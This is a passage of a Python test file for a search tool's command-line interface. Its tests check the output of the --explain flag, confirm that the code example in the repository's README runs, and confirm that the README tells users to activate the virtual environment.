    result = run(search_command, "Byrne JAG", "--index", str(tmp_path / "index"), "--explain")
    assert result.stdout.splitlines()[3:5] == shown.splitlines()


def test_the_readmes_python_example_runs_beside_the_seeds(tmp_path: Path, seeds: Path) -> None:
    readme = (REPOSITORY / "README.md").read_text(encoding="utf-8")
    example = readme.split("## Python", 1)[1].split("```python\n", 1)[1].split("```", 1)[0]
    ran = subprocess.run(
        [sys.executable, "-c", example], cwd=seeds.parent, capture_output=True, text=True
    )
    assert ran.returncode == 0, ran.stderr
    assert SEED_ID in ran.stdout


def test_the_readme_uses_no_folder_users_lack_and_says_to_activate_the_environment() -> None:
    readme = (REPOSITORY / "README.md").read_text(encoding="utf-8")
    before = readme.split("## Development", 1)[0]
    assert "../shared" not in before.split("## Sample corpora")[0]
    assert "../shared" not in before.split("## Query language")[1]
    commands = [line for line in before.splitlines() if line.startswith(("search", "searchlib "))]
    assert commands and readme.index(". .venv/bin/activate") < readme.index(commands[0])


def test_explain_shows_what_each_word_added_in_each_field(built: Path) -> None:
    arguments = ["Byrne JAG", "--index", str(built), "-n", "1", "--explain"]
    lines = run(search_command, *arguments).stdout.splitlines()
    byrne, jag = lines[3].split("; ")
    assert byrne.startswith("   byrne: body ") and ", quotes " in byrne
    assert jag.startswith("jag: body ") and ", quotes " in jag
    assert lines[4] == "   exact forms +1.00 (byrne, jag)"
    machine = run(search_command, *arguments, "--json")
    assert list(json.loads(machine.stdout)[0]) == HIT_KEYS
    (explained,) = machine.stderr.splitlines()
    assert explained.startswith(f"explain 1 {SEED_ID}: byrne: body ")
    assert explained.endswith("; exact forms +1.00 (byrne, jag)")
